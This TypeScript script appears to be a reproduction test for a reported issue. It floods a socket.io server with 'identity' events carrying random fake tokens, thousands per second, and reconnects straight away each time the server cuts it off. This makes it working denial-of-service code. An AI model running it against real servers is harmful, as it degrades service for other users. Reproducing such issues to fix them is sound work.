import crypto from 'node:crypto';
import { io } from 'socket.io-client';

/**
 * One guest socket sending `identity` with a fresh made-up token as fast as RATE says (issue 12
 * measured 5,000 a second pushing another player's /api/user/get to a 4.5 s median). When the
 * server disconnects it for flooding, it comes straight back, as an attacker would.
 * Environment: TARGET_URL, RATE (events per second), SOURCE_ADDRESS (local address to send from).
 */
const target = process.env.TARGET_URL;
const rate = Number(process.env.RATE ?? 5000);
if (!target || !Number.isFinite(rate) || rate <= 0) throw new Error('identity-flood: TARGET_URL and RATE are needed');

const TICK_MS = 10;
const perTick = Math.max(1, Math.round((rate * TICK_MS) / 1000));
// engine.io-client hands `localAddress` to `ws` in Node (its websocket transport picks it from
// the options), although socket.io-client's option type does not list it.
const sourceAddress = { localAddress: process.env.SOURCE_ADDRESS } as object;
const socket = io(target, {
  transports: ['websocket'],
  extraHeaders: { origin: target },
  reconnectionDelay: 50,
  reconnectionDelayMax: 200,
  ...sourceAddress,
});
let sent = 0;
let disconnects = 0;
socket.on('disconnect', (reason) => {
  disconnects += 1;
  // A server-side disconnect is final for socket.io-client; the attacker reconnects by hand.
  if (reason === 'io server disconnect') setTimeout(() => socket.connect(), 50);
});
setInterval(() => {
  if (!socket.connected) return;
  for (let index = 0; index < perTick; index += 1) {
    socket.emit('identity', { apiToken: crypto.randomBytes(32).toString('base64url') });
    sent += 1;
  }
}, TICK_MS);
process.on('SIGTERM', () => {
  console.log(JSON.stringify({ sent, disconnects }));
  process.exit(0);
});
